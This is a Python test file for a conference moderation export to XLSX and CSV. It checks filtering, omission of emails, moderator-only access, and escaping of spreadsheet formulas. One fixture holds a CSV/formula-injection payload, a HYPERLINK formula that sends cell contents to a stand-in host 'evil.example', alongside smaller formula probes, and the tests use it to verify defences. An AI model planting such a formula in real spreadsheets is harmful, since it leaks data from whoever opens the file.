"""The Beiträge export for committees: XLSX and CSV with the queue's filters, no email addresses."""

import io

import pandas as pd
import pytest

from konferenzen.export import SPALTEN, beitraege_zeilen
from konferenzen.models import Beitrag, BeitragStatus
from tests.factories.konferenzen import BeitragFactory

EXPORT = "/admin/konferenzen/moderation/export/"


@pytest.fixture
def beitraege(konferenz):
    return [
        BeitragFactory(
            konferenz=konferenz, status=BeitragStatus.FREIGEGEBEN, text="Erster; mit Semikolon", email="x@example.org"
        ),
        BeitragFactory(konferenz=konferenz, status=BeitragStatus.FREIGEGEBEN, text="Zweiter mit Umlaut: Bedürfnis"),
        BeitragFactory(konferenz=konferenz, text="Noch ungeprüft"),
    ]


def test_xlsx_export_opens_with_pandas_and_holds_the_filtered_rows(client_fuer, planerin, beitraege):
    antwort = client_fuer(planerin).get(EXPORT, {"status": "freigegeben", "format": "xlsx"})
    assert antwort.status_code == 200
    assert antwort["Content-Disposition"].endswith('.xlsx"')
    tabelle = pd.read_excel(io.BytesIO(antwort.content))
    assert list(tabelle.columns) == SPALTEN
    assert list(tabelle["id"]) == [beitraege[0].pk, beitraege[1].pk]
    assert list(tabelle["text"]) == ["Erster; mit Semikolon", "Zweiter mit Umlaut: Bedürfnis"]
    erwartet = beitraege_zeilen(Beitrag.objects.filter(status=BeitragStatus.FREIGEGEBEN))
    als_text = pd.read_excel(io.BytesIO(antwort.content), dtype=str, keep_default_na=False)
    assert als_text.to_dict("records") == [{k: str(v) for k, v in z.items()} for z in erwartet]


def test_csv_export_is_excel_friendly_and_never_contains_emails(client_fuer, planerin, beitraege):
    antwort = client_fuer(planerin).get(EXPORT, {"status": "freigegeben", "format": "csv"})
    assert antwort.content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    tabelle = pd.read_csv(io.BytesIO(antwort.content), sep=";", encoding="utf-8-sig")
    assert len(tabelle) == 2
    assert b"x@example.org" not in antwort.content


def test_export_is_for_moderators_only(client_fuer, redakteurin, beitraege):
    antwort = client_fuer(redakteurin).get(EXPORT, {"format": "xlsx"})
    assert antwort.status_code in (302, 403)
    assert b"Erster" not in antwort.content


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&B2,"x")'


@pytest.fixture
def formel_beitraege(konferenz):
    return [
        BeitragFactory(konferenz=konferenz, text=HYPERLINK, zielgruppe="=1+2"),
        BeitragFactory(konferenz=konferenz, status=BeitragStatus.FREIGEGEBEN, text="@SUM(1+1)", zielgruppe=" -2+3"),
    ]


def test_xlsx_moderation_export_holds_no_formula_from_a_visitor(client_fuer, planerin, formel_beitraege):
    import openpyxl

    antwort = client_fuer(planerin).get(EXPORT, {"format": "xlsx"})  # default filter: unmoderated posts
    blatt = openpyxl.load_workbook(io.BytesIO(antwort.content)).active
    zellen = [zelle for zeile in blatt.iter_rows() for zelle in zeile]
    assert [z for z in zellen if z.data_type == "f"] == []
    werte = {z.value for z in zellen}
    assert "'" + HYPERLINK in werte
    assert "'=1+2" in werte


def test_csv_moderation_export_starts_no_visitor_cell_with_a_formula_sign(client_fuer, planerin, formel_beitraege):
    antwort = client_fuer(planerin).get(EXPORT, {"format": "csv", "status": ""})
    tabelle = pd.read_csv(io.BytesIO(antwort.content), sep=";", encoding="utf-8-sig", dtype=str)
    assert list(tabelle["text"]) == ["'" + HYPERLINK, "'@SUM(1+1)"]
    assert list(tabelle["zielgruppe"]) == ["'=1+2", "' -2+3"]


def test_planning_export_of_bedarfsmeldungen_neutralises_formulas(client_fuer, planerin, formel_beitraege):
    antwort = client_fuer(planerin).get(
        "/admin/konferenzen/bedarfsmatrix/export/", {"inhalt": "beitraege", "format": "csv"}
    )
    tabelle = pd.read_csv(io.BytesIO(antwort.content), sep=";", encoding="utf-8-sig", dtype=str)
    assert list(tabelle["text"]) == ["'@SUM(1+1)"]
    assert list(tabelle["zielgruppe"]) == ["' -2+3"]
